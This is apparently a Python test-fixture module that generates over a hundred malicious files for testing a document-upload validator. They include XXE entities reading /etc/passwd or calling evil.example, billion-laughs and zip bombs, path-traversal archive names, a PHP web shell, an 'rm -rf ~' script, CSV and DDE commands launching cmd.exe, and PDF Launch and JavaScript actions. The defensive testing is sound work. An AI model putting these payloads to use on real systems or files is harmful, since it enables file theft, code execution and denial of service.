"""More than a hundred files made to harm whoever opens or unpacks them, each built when it is asked for."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from council.actions.wrong_files import Flaw
from tests.files import (
    a_docx,
    a_jpeg,
    a_pdf,
    a_png,
    a_stream,
    an_archive,
    an_odt,
    an_xlsx,
    chunk,
    relations,
    segment,
    types,
)

Hostile = tuple[str, Callable[[], bytes], Flaw]

MEGABYTE = 1024 * 1024
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><l>&i;</l>"
)
READS_A_FILE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
ASKS_A_SERVER = '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'
XLINK = 'xmlns:x="http://www.w3.org/1999/xlink"'
HYPER = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def hostile_files() -> list[Hostile]:
    return [*of_no_kind(), *pictures(), *archives(), *markup(), *documents(), *pdfs()]


def of_no_kind() -> Iterator[Hostile]:
    """Programs, pages and documents of other kinds, whatever they are called."""
    beginnings = {
        "program": b"MZ\x90\x00", "elf": b"\x7fELF\x02\x01\x01", "script": b"#!/bin/sh\nrm -rf ~\n", "gif": b"GIF89a;",
        "page": b"<html><script>alert(1)</script></html>", "page_after_space": b"\n\n <!doctype html><script>1</script>",
        "drawing": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "xml": LAUGHS.encode(),
        "drawing_declared": b"<?xml version='1.0'?><svg onload='alert(1)'/>", "php": b"<?php system($_GET['c']);",
        "rtf": b"{\\rtf1{\\object\\objdata 01}}", "bat": b"@echo off\r\ndel *.*", "tar": bytes(512), "rar": b"Rar!\x1a\x07\x00",
        "gzip": b"\x1f\x8b\x08\x00", "seven": b"7z\xbc\xaf\x27\x1c", "bzip": b"BZh91AY", "tiff": b"II*\x00\x08\x00\x00\x00",
        "bmp": b"BM" + bytes(60), "webp": b"RIFF\x00\x00\x00\x00WEBP", "text": "Справка".encode(), "shortcut": b"L\x00\x00\x00\x01\x14",
        "postscript": b"%!PS-Adobe-3.0\n", "pdf_after_space": b" " + a_pdf(), "pdf_after_a_page": b"<html>" + a_pdf(),
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x37", "utf16_page": "<html><script>".encode("utf-16"), "nul": b"\x00",
        "mail": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n", "empty_archive": b"PK\x05\x06" + bytes(18),
        "spanned_archive": b"PK\x07\x08PK\x03\x04", "csv": b"=cmd|'/c calc'!A1,1\n", "djvu": b"AT&TFORM", "mp4": b"\x00\x00\x00\x18ftypmp42",
    }  # fmt: skip
    for name, content in beginnings.items():
        yield name, lambda content=content: content, Flaw.OF_NO_KIND
    yield "empty", lambda: b"", Flaw.EMPTY
    yield "old_word", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Flaw.OLD_OFFICE


def pictures() -> Iterator[Hostile]:
    yield "png_of_ten_billion_points", lambda: a_png(100_000, 100_000), Flaw.TOO_MANY_PIXELS
    yield "png_wider_than_counted", lambda: a_png(2**31 - 1, 2**31 - 1), Flaw.TOO_MANY_PIXELS
    yield "png_one_line_of_all", lambda: a_png(2**31 - 1, 1), Flaw.TOO_MANY_PIXELS
    yield "png_without_points", lambda: a_png(0, 1), Flaw.DAMAGED
    yield "png_torn", lambda: a_png()[:-6], Flaw.NO_END
    yield "png_with_a_false_sum", lambda: a_png().replace(b"IDAT", b"IDAX"), Flaw.DAMAGED
    yield "png_with_a_chunk_beyond_its_end", lambda: a_png()[:33] + b"\xff\xff\xff\xffIDAT", Flaw.NO_END
    yield "png_bomb_in_a_remark", lambda: a_png(1, 1, chunk(b"zTXt", b"x" * 5 * MEGABYTE)), Flaw.TOO_MUCH
    yield "png_of_a_million_chunks", lambda: a_png(1, 1, chunk(b"tEXt", b"") * 200_000), Flaw.TOO_COMPLEX
    yield "png_and_archive", lambda: a_png(tail=an_archive({"a": "b"})), Flaw.TWO_KINDS
    yield "png_and_page", lambda: a_png(tail=b"<script>alert(1)</script>"), Flaw.TWO_KINDS
    yield (
        "png_with_a_page_inside",
        lambda: a_png(1, 1, chunk(b"tEXt", b"<html><script>alert(1)")),
        Flaw.TWO_KINDS,
    )
    yield (
        "png_with_php_inside",
        lambda: a_png(1, 1, chunk(b"tEXt", b"<?php eval($_GET[0])?>")),
        Flaw.TWO_KINDS,
    )
    yield "jpeg_of_four_billion_points", lambda: a_jpeg(65_535, 65_535), Flaw.TOO_MANY_PIXELS
    yield "jpeg_without_height", lambda: a_jpeg(10, 0), Flaw.DAMAGED
    yield "jpeg_torn", lambda: a_jpeg()[:-2], Flaw.NO_END
    yield "jpeg_without_a_frame", lambda: b"\xff\xd8\xff\xd9", Flaw.DAMAGED
    yield "jpeg_with_a_segment_of_nothing", lambda: b"\xff\xd8\xff\xe0\x00\x01\xff\xd9", Flaw.DAMAGED
    yield "jpeg_with_a_segment_beyond_its_end", lambda: b"\xff\xd8\xff\xe0\xff\xff\xff\xd9", Flaw.NO_END
    yield "jpeg_of_a_million_segments", lambda: a_jpeg(1, 1, segment(0xFE, b"") * 200_000), Flaw.TOO_COMPLEX
    yield "jpeg_and_archive", lambda: a_jpeg(tail=an_archive({"a": "b"})), Flaw.TWO_KINDS
    yield "jpeg_and_program", lambda: a_jpeg(tail=b"MZ program"), Flaw.TWO_KINDS
    yield "jpeg_followed_by_jpegs_for_ever", lambda: a_jpeg() * 5000, Flaw.TWO_KINDS
    yield (
        "jpeg_with_a_page_in_its_remark",
        lambda: a_jpeg(1, 1, segment(0xFE, b"<script>alert(1)")),
        Flaw.TWO_KINDS,
    )
    yield "jpeg_and_a_preview_of_billions", lambda: a_jpeg(tail=a_jpeg(65_535, 65_535)), Flaw.TOO_MANY_PIXELS


def archives() -> Iterator[Hostile]:
    """Archives that unpack to a world, or out of their folder, or are two things at once."""
    yield "zip_torn", lambda: a_docx()[:-10], Flaw.DAMAGED
    yield "zip_of_nothing", lambda: b"PK\x03\x04not an archive", Flaw.DAMAGED
    yield "zip_of_no_document", lambda: an_archive({"readme.txt": "x"}), Flaw.OF_NO_KIND
    yield "zip_of_a_program", lambda: an_archive({"a.exe": "MZ"}), Flaw.OF_NO_KIND
    yield (
        "odt_that_says_zip",
        lambda: an_archive({"mimetype": "application/zip", "content.xml": "<x/>"}),
        Flaw.OF_NO_KIND,
    )
    yield (
        "presentation",
        lambda: an_archive({"[Content_Types].xml": "<x/>", "ppt/presentation.xml": "<x/>"}),
        Flaw.OF_NO_KIND,
    )
    yield "java", lambda: an_archive({"META-INF/MANIFEST.MF": "", "a.class": ""}), Flaw.OF_NO_KIND
    yield "apk", lambda: an_archive({"AndroidManifest.xml": "<x/>", "classes.dex": ""}), Flaw.OF_NO_KIND
    yield "a_thousand_to_one", lambda: a_docx({"word/a.xml": b"<a>" + bytes(30 * MEGABYTE)}), Flaw.TOO_MUCH
    yield (
        "small_parts_of_a_world",
        lambda: a_docx({f"word/{n}.bin": bytes(MEGABYTE) for n in range(201)}),
        Flaw.TOO_MUCH,
    )
    yield (
        "says_two_gigabytes",
        lambda: said_of_the_last(a_docx(), 24, (2**31).to_bytes(4, "little")),
        Flaw.TOO_MUCH,
    )
    yield "ten_thousand_parts", lambda: an_archive({f"{n}": "" for n in range(10_001)}), Flaw.TOO_MUCH
    yield "a_hundred_thousand_parts", lambda: an_archive({f"{n}": "" for n in range(66_000)}), Flaw.TOO_MUCH
    yield "directory_of_names", lambda: an_archive({f"{n:0200}": "" for n in range(9_000)}), Flaw.TOO_MUCH
    yield "parts_in_the_same_bytes", overlapping, Flaw.MISBUILT
    yield "unpacks_to_more_than_said", lambda: said_of_the_last(a_docx(), 24, b"\x05\0\0\0"), Flaw.DAMAGED
    yield (
        "a_name_said_twice",
        lambda: renamed(a_docx({"word/document.xmm": "<x/>"}), b"xmm", b"xml"),
        Flaw.MISBUILT,
    )
    yield (
        "a_name_said_otherwise_inside",
        lambda: named_otherwise(a_docx({"word/a.xml": "<x/>"})),
        Flaw.DAMAGED,
    )
    for at, name in enumerate(
        (
            "../../etc/passwd",
            "/etc/passwd",
            "word/../../x",
            "C:/x",
            "a/./b",
            "a//b",
            "\u202ex",
            "n\x07",
            "x" * 300,
        )
    ):
        yield f"a_way_out_{at}", lambda name=name: a_docx({name: "x"}), Flaw.MISBUILT
    yield (
        "a_way_out_backwards",
        lambda: renamed(a_docx({"AAxAAxxx": "x"}), b"AAxAAxxx", b"..\\..\\xx"),
        Flaw.MISBUILT,
    )
    yield "a_link_to_elsewhere", lambda: with_mode(0o120777), Flaw.MISBUILT
    yield "a_device", lambda: with_mode(0o020666), Flaw.MISBUILT
    yield "under_a_password", lambda: flagged(a_docx(), 1), Flaw.ENCRYPTED
    yield "packed_by_lzma", lambda: a_packed(zipfile.ZIP_LZMA), Flaw.MISBUILT
    yield "packed_by_bzip", lambda: a_packed(zipfile.ZIP_BZIP2), Flaw.MISBUILT
    yield "with_a_remark", lambda: a_docx()[:-2] + b"\x04\x00MZ\x90\x00", Flaw.MISBUILT
    yield "followed_by_a_program", lambda: a_docx() + b"MZ\x90\x00" * 20, Flaw.MISBUILT
    yield "two_archives", lambda: a_docx() + a_docx({"word/vbaProject.bin": "x"}), Flaw.MISBUILT
    yield (
        "archive_and_pdf",
        lambda: an_archive({"a.pdf": a_pdf(), **parts_of(a_docx())}, packed=0),
        Flaw.EMBEDS,
    )
    yield (
        "archive_and_page",
        lambda: an_archive({"a": b"-<html><script>", **parts_of(a_docx())}, packed=0),
        Flaw.TWO_KINDS,
    )
    yield "in_the_long_form", long_form, Flaw.TOO_MUCH


def markup() -> Iterator[Hostile]:
    """Declarations that expand to gigabytes or read files, in whatever part and letters."""
    for name, words in {
        "laughs": LAUGHS,
        "reads_a_file": READS_A_FILE,
        "asks_a_server": ASKS_A_SERVER,
    }.items():
        yield f"docx_{name}", lambda words=words: a_docx(body=words), Flaw.DECLARES
        yield f"xlsx_{name}", lambda words=words: an_xlsx({"xl/worksheets/sheet1.xml": words}), Flaw.DECLARES
        yield f"odt_{name}", lambda words=words: an_odt(content=words), Flaw.DECLARES
        yield f"types_{name}", lambda words=words: a_docx({"[Content_Types].xml": words}), Flaw.DECLARES
        yield f"relations_{name}", lambda words=words: a_docx({"_rels/.rels": words}), Flaw.DECLARES
        yield (
            f"utf16_{name}",
            lambda words=words: a_docx(body=words.replace('<?xml version="1.0"?>', "").encode("utf-16")),
            Flaw.DECLARES,
        )
        yield (
            f"called_otherwise_{name}",
            lambda words=words: a_docx({"word/media/image1.dat": words}),
            Flaw.DECLARES,
        )
    yield (
        "declared_after_much_space",
        lambda: a_docx(body=b"<!--" + b"x" * 999_000 + b"-->" + LAUGHS[21:].encode()),
        Flaw.DECLARES,
    )
    yield (
        "parameter_entities",
        lambda: a_docx(body='<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/">%a;]><x/>'),
        Flaw.DECLARES,
    )
    yield "broken_markup", lambda: a_docx(body="<a><b></a>"), Flaw.DAMAGED
    yield (
        "letters_nobody_knows",
        lambda: a_docx(body='<?xml version="1.0" encoding="utf-7"?><a/>'),
        Flaw.DAMAGED,
    )
    yield "of_undeclared_entities", lambda: a_docx(body="<a>&lol;</a>"), Flaw.DAMAGED
    yield "bottomless", lambda: a_docx(body="<a>" * 5000 + "</a>" * 5000), Flaw.TOO_COMPLEX
    yield (
        "page_called_markup",
        lambda: a_docx({"word/afchunk.html": "<html><script>alert(1)</html>"}),
        Flaw.DAMAGED,
    )


def documents() -> Iterator[Hostile]:
    """Documents that run, load or carry something."""
    for at, name in enumerate(
        ("word/vbaProject.bin", "word/vbaData.xml", "WORD/VBAPROJECT.BIN", "xl/vbaProject.bin")
    ):
        yield f"macros_{at}", lambda name=name: a_docx({name: "x"}), Flaw.MACROS
    yield "macros_of_old", lambda: an_xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), Flaw.MACROS
    yield (
        "macros_said",
        lambda: a_docx(
            {
                "[Content_Types].xml": types(
                    "word/document.xml", "application/vnd.ms-word.document.macroEnabled"
                )
            }
        ),
        Flaw.MACROS,
    )
    yield (
        "macros_said_otherwise",
        lambda: a_docx({"[Content_Types].xml": types("a", "application/vnd.ms-office.vba&#80;roject")}),
        Flaw.MACROS,
    )
    yield "odt_basic", lambda: an_odt({"Basic/Standard/Module1.xml": "<x/>"}), Flaw.MACROS
    yield "odt_python", lambda: an_odt({"Scripts/python/a.py": "x"}), Flaw.MACROS
    external = {
        "template": f'Id="r" Type="{HYPER}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"',
        "picture": f'Id="r" Type="{HYPER}/image" Target="http://evil.example/a.png" TargetMode="External"',
        "hidden": f'Id="r" Type="{HYPER}/image" Target="\\\\evil\\share" TargetMode="&#69;xternal"',
        "object": f'Id="r" Type="{HYPER}/oleObject" Target="mhtml:http://evil.example!x" TargetMode="External"',
        "frame": f'Id="r" Type="{HYPER}/frame" Target="http://evil.example/" TargetMode="External"',
        "script": f'Id="r" Type="{HYPER}/hyperlink" Target="javascript:alert(1)" TargetMode="External"',
        "file": f'Id="r" Type="{HYPER}/hyperlink" Target="file:///c:/windows/calc.exe" TargetMode="External"',
        "search": f'Id="r" Type="{HYPER}/hyperlink" Target="search-ms:query=x" TargetMode="External"',
        "share": f'Id="r" Type="{HYPER}/hyperlink" Target="\\\\evil\\share\\x" TargetMode="External"',
    }  # fmt: skip
    for name, said in external.items():
        yield (
            f"loads_{name}",
            lambda said=said: a_docx({"word/_rels/document.xml.rels": relations(said)}),
            Flaw.LINKS_OUT,
        )
    yield "other_tables", lambda: an_xlsx({"xl/externalLinks/externalLink1.xml": "<x/>"}), Flaw.LINKS_OUT
    yield "other_servers", lambda: an_xlsx({"xl/connections.xml": "<x/>"}), Flaw.LINKS_OUT
    field = "<w:document xmlns:w='w'><w:instrText>{}</w:instrText></w:document>"
    yield (
        "field_that_starts",
        lambda: a_docx(body=field.format(" DDEAUTO c:\\\\windows\\\\cmd.exe")),
        Flaw.LINKS_OUT,
    )
    yield (
        "field_that_asks",
        lambda: a_docx(body=field.format('INCLUDEPICTURE "http://evil.example/a"')),
        Flaw.LINKS_OUT,
    )
    yield (
        "simple_field",
        lambda: a_docx(body="<w:d xmlns:w='w'><w:fldSimple w:instr='DDE a b'/></w:d>"),
        Flaw.LINKS_OUT,
    )
    for at, tag in enumerate(("image", "object", "section-source", "plugin", "event-listener")):
        address = (
            "http://evil.example/",
            "//evil/share",
            "file:///etc/passwd",
            "x",
            "vnd.sun.star.script:a",
        )[at]
        yield (
            f"odt_{tag}",
            lambda tag=tag, address=address: an_odt(content=f'<a {XLINK}><{tag} x:href="{address}"/></a>'),
            Flaw.LINKS_OUT,
        )
    yield (
        "odt_script_link",
        lambda: an_odt(content=f'<b {XLINK}><a x:href="javascript:alert(1)"/></b>'),
        Flaw.LINKS_OUT,
    )
    yield (
        "odt_password",
        lambda: an_odt({"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        Flaw.ENCRYPTED,
    )
    inside = {
        "program": b"MZ\x90",
        "elf": b"\x7fELF",
        "object": b"\xd0\xcf\x11\xe0",
        "pdf": a_pdf(),
        "script": b"#!/bin/sh",
    }
    for name, content in inside.items():
        yield (
            f"carries_{name}",
            lambda content=content: a_docx({"word/embeddings/o.bin": content}),
            Flaw.EMBEDS,
        )
    yield "carries_controls", lambda: a_docx({"word/activeX/activeX1.xml": "<x/>"}), Flaw.EMBEDS
    yield (
        "carries_an_archive",
        lambda: a_docx({"word/embeddings/a.docx": an_archive({"a": "MZ"})}),
        Flaw.OF_NO_KIND,
    )
    yield "table_in_letter_in_letter", lambda: a_docx({"a.docx": a_docx({"b.xlsx": an_xlsx()})}), Flaw.EMBEDS
    yield (
        "macros_in_the_table_of_a_chart",
        lambda: a_docx({"a.xlsx": an_xlsx({"xl/vbaProject.bin": "x"})}),
        Flaw.MACROS,
    )
    yield (
        "laughs_in_the_table_of_a_chart",
        lambda: a_docx({"a.xlsx": an_xlsx({"a.xml": LAUGHS})}),
        Flaw.DECLARES,
    )
    yield (
        "picture_of_billions",
        lambda: a_docx({"word/media/a.png": a_png(90_000, 90_000)}),
        Flaw.TOO_MANY_PIXELS,
    )
    yield "drawing_that_declares", lambda: a_docx({"word/media/a.svg": LAUGHS}), Flaw.DECLARES


def pdfs() -> Iterator[Hostile]:
    """PDFs that act, carry or hide something."""
    actions = {
        "script": b"/S/JavaScript/JS(app.alert\\(1\\))", "script_escaped": b"/S/J#61vaScript/J#53(app.alert\\(1\\))",
        "launch": b"/S/Launch/F(cmd.exe)", "form": b"/S/SubmitForm/F(http://evil.example/)", "share": b"/S/GoToR/F(\\\\\\\\evil\\\\x)",
        "import": b"/S/ImportData/F(x)", "sound": b"/S/Sound", "movie": b"/S/Movie", "rendition": b"/S/Rendition",
        "script_address": b"/S/URI/URI(javascript:alert\\(1\\))", "file_address": b"/S/URI/URI(file:///etc/passwd)",
        "embedded": b"/S/GoToE/T<</R/C/N(a)>>", "data_address": b"/S/URI/URI( data:text/html,x)",
    }  # fmt: skip
    for name, said in actions.items():
        yield f"pdf_opens_{name}", lambda said=said: a_pdf(catalog=b"/OpenAction<<%s>>" % said), Flaw.ACTS
    yield (
        "pdf_script_by_name",
        lambda: a_pdf(catalog=b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"),
        Flaw.ACTS,
    )
    yield "pdf_script_of_page", lambda: a_pdf(page=b"/AA<</O<</S/JavaScript/JS(1)>>>>"), Flaw.ACTS
    yield (
        "pdf_script_of_note",
        lambda: a_pdf(page=b"/Annots[<</Subtype/Link/A<</S/Launch/F(a)>>>>]"),
        Flaw.ACTS,
    )
    yield (
        "pdf_script_next",
        lambda: a_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(1)>>>>"),
        Flaw.ACTS,
    )
    yield (
        "pdf_script_elsewhere",
        lambda: a_pdf(b"<</S/JavaScript/JS(1)>>", catalog=b"/OpenAction 4 0 R"),
        Flaw.ACTS,
    )
    yield "pdf_script_packed", lambda: packed_pdf(b"<</S/JavaScript/JS(1)>>"), Flaw.ACTS
    yield "pdf_form_of_xml", lambda: a_pdf(catalog=b"/AcroForm<</XFA(x)/Fields[]>>"), Flaw.ACTS
    yield "pdf_film", lambda: a_pdf(page=b"/Annots[<</Subtype/RichMedia>>]"), Flaw.ACTS
    program = b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(%s)/EF<</F 4 0 R>>>>]>>>>"
    for name in (b"a.exe", b"a.pdf", b"a.docm", b"a.json.js", b"a"):
        yield (
            f"pdf_carries_{name.decode()}",
            lambda name=name: a_pdf(a_stream(b"MZ"), catalog=program % name),
            Flaw.EMBEDS,
        )
    yield (
        "pdf_note_with_a_file",
        lambda: a_pdf(
            a_stream(b"MZ"), page=b"/Annots[<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>]"
        ),
        Flaw.EMBEDS,
    )
    yield (
        "pdf_fetches",
        lambda: a_pdf(a_stream(b"", b"/F<</FS/URL/F(http://evil.example/)>>")),
        Flaw.LINKS_OUT,
    )
    yield (
        "pdf_picture_of_billions",
        lambda: a_pdf(a_stream(b"", b"/Subtype/Image/Width 99999/Height 99999")),
        Flaw.TOO_MANY_PIXELS,
    )
    yield "pdf_torn", lambda: a_pdf()[:-8], Flaw.NO_END
    yield "pdf_of_nothing", lambda: b"%PDF-1.7\n%%EOF\n", Flaw.DAMAGED
    yield "pdf_of_noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n", Flaw.DAMAGED
    yield (
        "pdf_without_pages",
        lambda: a_pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[]/Count 0"),
        Flaw.DAMAGED,
    )
    yield (
        "pdf_whose_pages_are_themselves",
        lambda: a_pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
        Flaw.DAMAGED,
    )
    yield "pdf_under_a_password", under_a_password, Flaw.ENCRYPTED
    yield "pdf_and_archive", lambda: a_pdf(tail=an_archive({"a": "MZ"})), Flaw.TWO_KINDS
    yield "pdf_and_page", lambda: b"%PDF-1.7\n<html><script>alert(1)</script>" + a_pdf(), Flaw.TWO_KINDS


def bombs() -> Iterator[Hostile]:
    """PDFs that would take all memory or time of whoever reads them: for the reader that is bounded."""
    yield "pdf_of_gigabytes", lambda: packed_pdf(b" " * 8, times=80 * MEGABYTE), Flaw.TOO_MUCH
    yield "pdf_bottomless", lambda: a_pdf(b"[" * 2 * MEGABYTE), Flaw.TOO_MUCH


def said_of_the_last(content: bytes, at: int, said: bytes) -> bytes:
    """Return the archive whose directory says something else of its last part."""
    place = content.rindex(b"PK\x01\x02") + at
    return content[:place] + said + content[place + len(said) :]


def renamed(content: bytes, name: bytes, other: bytes) -> bytes:
    return content.replace(name, other)


def named_otherwise(content: bytes) -> bytes:
    """Return the archive one part of which is called otherwise where it lies than in the directory."""
    place = content.index(b"word/a.xml")
    return content[:place] + b"word/b.xml" + content[place + 10 :]


def flagged(content: bytes, flag: int) -> bytes:
    return said_of_the_last(content, 8, struct.pack("<H", flag))


def with_mode(mode: int) -> bytes:
    return said_of_the_last(a_docx({"word/link": "/etc/passwd"}), 38, struct.pack("<L", mode << 16))


def a_packed(way: int) -> bytes:
    return an_archive(parts_of(a_docx()), packed=way)


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {part.filename: archive.read(part) for part in archive.infolist()}


def overlapping() -> bytes:
    """Return an archive whose directory names the same packed bytes again and again."""
    content = a_docx({"word/a.xml": "<x>" + "y" * 1000 + "</x>"})
    at, end = content.rindex(b"PK\x01\x02"), content.rindex(b"PK\x05\x06")
    entry = content[at:end]
    again = b"".join(entry.replace(b"word/a.xml", b"word/%c.xml" % letter) for letter in b"bcdefgh")
    parts, length = 3 + 7, end - content.index(b"PK\x01\x02") + len(again)
    return (
        content[:end]
        + again
        + content[end : end + 8]
        + struct.pack("<HHL", parts, parts, length)
        + content[end + 16 :]
    )


def long_form() -> bytes:
    """Return an archive whose end says to look for the numbers elsewhere."""
    content = a_docx()
    return content[:-14] + b"\xff\xff" + content[-12:-10] + b"\xff\xff\xff\xff" + content[-6:]


def packed_pdf(held: bytes, times: int = 0) -> bytes:
    """Return a PDF that keeps an object in a packed stream; repeated, it unpacks to that many bytes."""
    packing = zlib.compressobj(9)
    packed = packing.compress(b"5 0 " + held)
    for _megabyte in range(times // MEGABYTE):
        packed += packing.compress(bytes(MEGABYTE).replace(b"\0", b" "))
    packed += packing.flush()
    out, places = bytearray(b"%PDF-1.5\n"), {}
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R>>", 4: a_stream(packed, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
    }  # fmt: skip
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = bytes(7) + b"".join(b"\1" + places[n].to_bytes(4, "big") + b"\0\0" for n in (1, 2, 3, 4))
    rows += b"\2" + (4).to_bytes(4, "big") + b"\0\0"
    table = a_stream(
        rows + b"\1" + len(out).to_bytes(4, "big") + b"\0\0", b"/Type/XRef/Size 7/W[1 4 2]/Root 1 0 R"
    )
    return bytes(out) + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(out))


def under_a_password() -> bytes:
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(a_pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
    return out.getvalue()
